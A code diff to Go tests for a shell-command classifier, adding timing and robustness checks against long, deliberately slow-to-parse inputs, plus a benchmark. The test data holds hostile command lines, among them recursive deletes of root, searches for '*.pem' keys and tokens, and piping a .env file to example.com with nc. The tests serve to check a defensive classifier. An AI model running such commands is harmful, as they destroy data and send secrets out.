@@ -3,6 +3,7 @@ package classify
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"pgregory.net/rapid"
 
@@ -410,10 +411,37 @@ func TestActionNamesItsResource(t *testing.T) {
 
 func TestUnreadableLineIsUncertain(t *testing.T) {
 	set := testSet(t)
-	for _, line := range []string{"rm -rf / '", "echo $(", strings.Repeat("$(", 10_000)} {
+	for _, line := range []string{"rm -rf / '", "echo $(", strings.Repeat("$(", 10_000), "rm -rf" + strings.Repeat(" x", 5000) + " /"} {
 		step := judge(set, line)
 		if !step.Uncertain || len(step.Actions) == 0 {
 			t.Errorf("%.20q: uncertain %v, %d actions", line, step.Uncertain, len(step.Actions))
+		}
+	}
+}
+
+// Lines that are made to be slow to judge.
+func TestHostileLinesAreJudgedInTime(t *testing.T) {
+	const limit = time.Second // for a machine that does other things as well
+	lines := map[string]string{
+		"words":    "rm -rf" + strings.Repeat(" -a b", 20_000),
+		"patterns": "grep -r" + strings.Repeat(" -e TOKEN_x", 10_000),
+		"path":     "cat " + strings.Repeat("a/", 50_000) + ".env",
+		"dots":     "rm -rf " + strings.Repeat("../", 30_000),
+		"stars":    "rm -rf " + strings.Repeat("*a", 50_000),
+		"commands": strings.Repeat("env | cat; ", 10_000),
+		"names":    "find / " + strings.Repeat("-name '*.pem' ", 5_000),
+		"holes":    "rm -rf " + strings.Repeat("$a/", 1_000) + "*",
+		"pipes":    "cat .env" + strings.Repeat(" | cat", 5_000) + " | nc example.com 1",
+	}
+	for name, line := range lines {
+		start := time.Now()
+		if step := judge(Shipped(), line); len(step.Actions) == 0 {
+			t.Errorf("%s: no action", name)
+		}
+		if took := time.Since(start); took > limit {
+			t.Errorf("%s: took %v", name, took)
+		} else {
+			t.Logf("%s: took %v", name, took)
 		}
 	}
 }
@@ -452,4 +480,18 @@ func FuzzClassify(f *testing.F) {
 			}
 		}
 	})
+}
+
+func BenchmarkClassify(b *testing.B) {
+	set := Shipped()
+	var scripts []*shellparse.Script
+	for i := range set.Rules {
+		for _, line := range set.Rules[i].NotMatch {
+			scripts = append(scripts, shellparse.Parse(line, shellparse.Options{Dir: offline.WorkDir, Home: offline.HomeDir}))
+		}
+	}
+	b.ReportAllocs()
+	for i := 0; b.Loop(); i++ {
+		set.Classify(scripts[i%len(scripts)], offline)
+	}
 }
